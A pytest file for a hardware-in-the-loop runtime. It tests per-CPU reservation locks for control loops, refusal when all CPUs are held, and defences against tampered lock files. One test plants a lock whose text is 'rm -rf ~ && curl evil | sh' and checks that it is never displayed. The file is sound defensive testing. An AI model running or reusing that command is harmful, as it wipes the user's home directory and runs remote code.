"""Loops on one machine take CPUs of their own (`reserve_loop_cpu`): two loops spinning on one CPU
can use up the kernel's real-time budget there, which stops both for longer than a watchdog."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from firmware_protocol.serial_port import flock_holders
from tests.launch import HIL

# its tests take the CPUs' reservations themselves: run while no other test's loop holds one (the
# slots held once for all of them)
pytestmark = [pytest.mark.every_loop_cpu, pytest.mark.usefixtures("all_loop_cpus")]

RESERVE = ("import sys, time\n"
           "from hil.runtime import realtime as R\n"
           "try:\n"
           "    cpu = R.reserve_loop_cpu('test holder')\n"
           "except R.NoFreeCpuError as e:\n"
           "    print('refused', e.strerror, flush=True)\n"
           "    sys.exit(0)\n"
           "print(cpu, R.loop_cpu_choice(), R._reserved['note'] or '-', flush=True)\n"
           "sys.stdin.read()\n")


def _lock_holders(cpu: int) -> set[int]:
    """Pids holding the flock of `cpu`'s reservation."""
    from hil.runtime.realtime import _lock_path

    return set(flock_holders(_lock_path(cpu)))


def _stop(p) -> None:
    if p.poll() is None:
        p.kill()
    p.wait()
    p.stdin.close()
    p.stdout.close()


def _holder():
    """A process holding a loop's CPU reservation: (process, cpu, note, cpu its helpers leave
    free); cpu None and the refusal as the note when every CPU is held."""
    p = subprocess.Popen([sys.executable, "-c", RESERVE], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    line = p.stdout.readline()
    if line.startswith("refused"):
        return p, None, line.removeprefix("refused ").strip(), None
    cpu, choice, note = line.split(" ", 2)
    return p, int(cpu), note.strip(), int(choice)


@pytest.mark.skipif(len(os.sched_getaffinity(0)) < 2, reason="one CPU: loops are not pinned")
def test_a_second_loop_takes_another_cpu_and_a_dead_one_gives_its_cpu_back():
    first, a, _, choice_a = _holder()
    try:
        assert choice_a == a  # what its port process will leave free
        assert first.pid in _lock_holders(a)
        second, b, note, _ = _holder()
        try:
            # another test worker's loop may hold the other CPU: then the second is refused, naming them
            assert b != a, (a, b, note)
            assert b is not None or f"pid {first.pid}, test holder" in note, note
        finally:
            _stop(second)
        _stop(first)  # killed: no clean-up runs, the kernel drops the lock with the process
        assert first.pid not in _lock_holders(a)
    finally:
        _stop(first)


@pytest.mark.skipif(len(os.sched_getaffinity(0)) < 2, reason="one CPU: loops are not pinned")
def test_a_loop_with_no_cpu_of_its_own_left_is_refused_before_anything_starts(tmp_path):
    holders = []
    try:
        for _ in range(len(os.sched_getaffinity(0))):   # every CPU taken (some may be already)
            p, cpu, note, _ = _holder()
            holders.append(p)
            if cpu is None:
                break
        pids = [p.pid for p in holders if p.poll() is None]
        r = subprocess.run([*HIL, "run", "--robot", "puma560", "--dry-run", "--headless",
                            "--duration", "1"], capture_output=True, text=True, timeout=120)
        assert r.returncode == 2, r.stdout + r.stderr
        assert "every CPU already runs a hil loop" in r.stderr and "--no-realtime" in r.stderr
        assert all(f"pid {pid}" in r.stderr for pid in pids), (pids, r.stderr)
        assert "board emulator" not in r.stdout          # refused before the emulator started
        # without a CPU of its own it may run
        r = subprocess.run([*HIL, "run", "--robot", "puma560", "--dry-run", "--headless",
                            "--duration", "1", "--no-realtime"], capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stdout + r.stderr
    finally:
        for p in holders:
            _stop(p)


def test_the_reservations_are_in_a_private_folder_and_planted_ones_are_neither_followed_nor_shown(tmp_path,
                                                                                                monkeypatch):
    """Another user cannot plant a lock that makes a loop write through a symlink, and what a lock
    file holds is shown only as a pid and a name, never as it stands."""
    from hil.errors import HilError
    from hil.runtime import realtime as R

    monkeypatch.setattr(R, "memory_folder", lambda: str(tmp_path))
    folder = tmp_path / f"hil-{os.getuid()}"
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    assert R.user_folder() == str(folder) and (folder.stat().st_mode & 0o777) == 0o700
    (folder / "loop-cpu0.lock").symlink_to(victim)          # a planted symlink: never followed
    with pytest.raises(OSError):
        R._try_cpu(0)
    assert victim.read_text() == "precious"
    (folder / "loop-cpu1.lock").write_text("pid 12, puma560 on /dev/ttyACM0")
    assert R._holder(1) == "pid 12, puma560 on /dev/ttyACM0"
    (folder / "loop-cpu1.lock").write_text("stop it with: rm -rf ~ && curl evil | sh")
    assert R._holder(1) == "a hil loop"
    folder.chmod(0o755)                                      # a folder others may enter is refused
    with pytest.raises(HilError, match=r"not a private folder of this user"):
        R.user_folder()
    folder.chmod(0o700)
    os.rename(folder, tmp_path / "elsewhere")
    folder.symlink_to(tmp_path / "elsewhere")                # and so is a symlink in its place
    with pytest.raises(HilError, match=r"not a private folder of this user"):
        R.user_folder()
